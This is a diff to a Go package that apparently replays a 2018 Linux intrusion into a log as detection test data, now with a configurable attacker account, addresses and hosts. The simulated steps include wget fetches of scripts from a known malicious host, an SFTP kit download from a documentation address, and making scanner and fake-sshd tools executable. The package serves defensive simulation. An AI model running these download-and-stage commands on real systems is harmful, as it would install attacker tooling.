@@ -1,6 +1,7 @@
 package replay
 
 import (
+	"cmp"
 	"encoding/base64"
 	"fmt"
 	"math/rand/v2"
@@ -18,6 +19,20 @@ type Disguise struct {
 	Through string // "busybox", "perl" or "python": what starts the system's commands
 	Other   bool   // other networks, ports, numbers and file names
 	Seed    uint64
+	By      Actor
+}
+
+// Actor is who does it, as far as others can see. Of the zero value all is as in the post.
+type Actor struct {
+	Account       string
+	First, Second string // addresses of the two sign-ins
+	Scripts       string // the host that scripts are fetched from
+	Drop          string // the host that the first kit is fetched from
+}
+
+// or fills what isn't told.
+func (a Actor) or(b Actor) Actor {
+	return Actor{cmp.Or(a.Account, b.Account), cmp.Or(a.First, b.First), cmp.Or(a.Second, b.Second), cmp.Or(a.Scripts, b.Scripts), cmp.Or(a.Drop, b.Drop)}
 }
 
 // Step is one behaviour of the intrusion, by its row in facts/security.md 5, and when it began.
@@ -41,11 +56,12 @@ type intruder struct {
 // Intrusion writes the intrusion of the post of 24 November 2018 to a log: a service's account with a default password, a look around, a kit that scans, hours later
 // another one that sprays passwords. It returns the behaviours that are to be found.
 func Intrusion(l *Log, d Disguise) []Step {
+	d.By = d.By.or(Actor{"cassandra", "203.0.113.7", "203.0.114.91", "nasapaul.com", "198.51.100.44"})
 	in := &intruder{Log: l, d: d, rnd: rand.New(rand.NewPCG(d.Seed, 24)), names: map[string]string{}}
-	in.signIn("cassandra", "203.0.113.7", 3)
+	in.signIn(d.By.Account, d.By.First, 3)
 	in.enumerate()
 	l.Wait(40 * time.Minute)
-	in.signIn("cassandra", "203.0.114.91", 4)
+	in.signIn(d.By.Account, d.By.Second, 4)
 	in.firstKit()
 	l.Wait(2 * time.Hour)
 	in.removeKit()
@@ -65,7 +81,7 @@ func (in *intruder) signIn(account, addr string, session uint32) {
 	in.step(row, name)
 	in.SignIn(account, addr, 112, session, true)
 	in.session = session
-	in.shell = Process{PID: in.PID(), Parent: in.PID(), AUID: 112, UID: 112, Session: session, TTY: "pts0", Dir: "/var/lib/cassandra"}
+	in.shell = Process{PID: in.PID(), Parent: in.PID(), AUID: 112, UID: 112, Session: session, TTY: "pts0", Dir: "/var/lib/" + account}
 	in.Exec(in.shell, "/bin/bash", []string{"-bash"})
 	in.Wait(3 * time.Second)
 }
@@ -172,7 +188,7 @@ func quotedList(args []string) string {
 
 func (in *intruder) enumerate() {
 	in.step(3, "script from a known malicious source")
-	in.run("wget", "http://nasapaul.com/"+in.name("speed"))
+	in.run("wget", "http://"+in.d.By.Scripts+"/"+in.name("speed"))
 	in.Wait(2 * time.Second)
 	in.step(4, "host enumeration")
 	p := in.shell
@@ -196,15 +212,15 @@ func (in *intruder) enumerate() {
 		in.run(c...)
 	}
 	in.step(5, "bandwidth test")
-	in.run("wget", "-O", "/dev/null", "http://nasapaul.com/speedtest/100mb.bin")
+	in.run("wget", "-O", "/dev/null", "http://"+in.d.By.Scripts+"/speedtest/100mb.bin")
 	in.shell = p
 }
 
 func (in *intruder) firstKit() {
 	in.step(6, "kit fetched by SFTP")
-	in.run("sftp", "kits@198.51.100.44")
+	in.run("sftp", "kits@"+in.d.By.Drop)
 	in.Wait(time.Minute)
-	in.shell.Dir = "/var/lib/cassandra/.cache"
+	in.shell.Dir = "/var/lib/" + in.d.By.Account + "/.cache"
 	tools := []string{"1", "cyberinfo", "cybernetikrandom", "go", "h4e", "petarda", "port", "pscan2", "screen", "speedtestvps.py", "sshd"}
 	in.step(7, "kit made executable")
 	in.run(append([]string{"chmod", "+x"}, in.all(tools)...)...)
